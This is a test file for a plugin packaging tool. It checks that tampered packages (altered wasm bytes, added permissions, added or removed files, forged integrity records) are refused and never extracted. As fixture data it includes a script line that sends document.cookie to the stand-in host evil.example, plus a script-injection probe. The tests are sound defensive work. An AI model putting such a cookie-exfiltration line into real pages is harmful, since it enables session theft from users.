import { createHash } from "node:crypto";
import { join } from "node:path";
import { beforeAll, afterAll, describe, expect, it } from "vitest";
import { extractPackage, packPlugin, PackageError, readPackage, type PackResult } from "../../src/packaging/index.js";
import { kitchenSinkFolder, listTree, removeTemps, rezip, tempDir } from "./support.js";

const sha256 = (bytes: Uint8Array | string) => createHash("sha256").update(bytes).digest("hex");
const FIX = "Fix: do not install this package; get it again from its publisher, or pack it again from source with `gk plugin pack`";

let packed: PackResult;
beforeAll(async () => {
  packed = await packPlugin(await kitchenSinkFolder());
});
afterAll(removeTemps);

function refusal(zip: Uint8Array): PackageError {
  try {
    readPackage(zip, { label: "kitchen-sink-1.0.0.zip" });
  } catch (error) {
    if (error instanceof PackageError) return error;
    throw error;
  }
  throw new Error("the package was accepted");
}

describe("a package changed after packing is refused, naming what changed", () => {
  it("a modified wasm byte: names plugin.wasm with the expected and actual hashes", () => {
    let changed = new Uint8Array();
    const zip = rezip(packed.bytes, (files) => {
      changed = files["plugin.wasm"]!.slice();
      changed[100] = changed[100]! ^ 0xff;
      files["plugin.wasm"] = changed;
    });
    const error = refusal(zip);
    expect(error.code).toBe("E_PACKAGE_TAMPERED");
    expect(error.message).toBe(`kitchen-sink-1.0.0.zip changed after it was packed: plugin.wasm was modified (expected sha256 ${packed.integrity.files["plugin.wasm"]}, got ${sha256(changed)}). ${FIX}`);
  });

  it("a modified manifest (a permission added)", () => {
    let manifest = "";
    const zip = rezip(packed.bytes, (files) => {
      manifest = new TextDecoder().decode(files["manifest.json"]).replace('"db:read",', '"db:read", "db:write:ticket",');
      files["manifest.json"] = new TextEncoder().encode(manifest);
    });
    expect(refusal(zip).message).toBe(`kitchen-sink-1.0.0.zip changed after it was packed: manifest.json was modified (expected sha256 ${packed.integrity.files["manifest.json"]}, got ${sha256(manifest)}). ${FIX}`);
  });

  it("an added file and a removed file, both named", () => {
    const script = new TextEncoder().encode("fetch('https://evil.example/' + document.cookie)");
    const zip = rezip(packed.bytes, (files) => {
      files["static/evil.js"] = script;
      delete files["i18n/de.yaml"];
    });
    expect(refusal(zip).message).toBe(
      `kitchen-sink-1.0.0.zip changed after it was packed: i18n/de.yaml was removed (listed in goatkit-integrity.json with sha256 ${packed.integrity.files["i18n/de.yaml"]}); static/evil.js was added (not listed in goatkit-integrity.json; sha256 ${sha256(script)}). ${FIX}`,
    );
  });

  it("an integrity file edited to match a changed file, without its digest: the digest names the edit", () => {
    const zip = rezip(packed.bytes, (files) => {
      const wasm = files["plugin.wasm"]!.slice();
      wasm[100] = wasm[100]! ^ 0xff;
      files["plugin.wasm"] = wasm;
      const record = JSON.parse(new TextDecoder().decode(files["goatkit-integrity.json"]));
      record.files["plugin.wasm"] = sha256(wasm);
      files["goatkit-integrity.json"] = new TextEncoder().encode(JSON.stringify(record));
    });
    const error = refusal(zip);
    expect(error.code).toBe("E_PACKAGE_TAMPERED");
    expect(error.message).toMatch(new RegExp(`^kitchen-sink-1\\.0\\.0\\.zip: goatkit-integrity\\.json was edited: its digest is ${packed.integrity.digest} but its file list hashes to [0-9a-f]{64}\\. Fix: do not install`));
  });

  it("a package without an integrity file is not a GoatKit package", () => {
    const zip = rezip(packed.bytes, (files) => {
      delete files["goatkit-integrity.json"];
    });
    expect(refusal(zip).message).toBe("kitchen-sink-1.0.0.zip has no goatkit-integrity.json, so it is not a GoatKit package. Fix: create packages with `gk plugin pack`");
  });

  it("extraction of a tampered package writes nothing", async () => {
    const root = await tempDir();
    const zip = rezip(packed.bytes, (files) => {
      files["templates/kitchen-sink/index.html"] = new TextEncoder().encode("<script>alert(1)</script>");
    });
    await expect(extractPackage(zip, join(root, "kitchen-sink"))).rejects.toMatchObject({ code: "E_PACKAGE_TAMPERED" });
    expect(await listTree(root)).toEqual([]);
  });
});
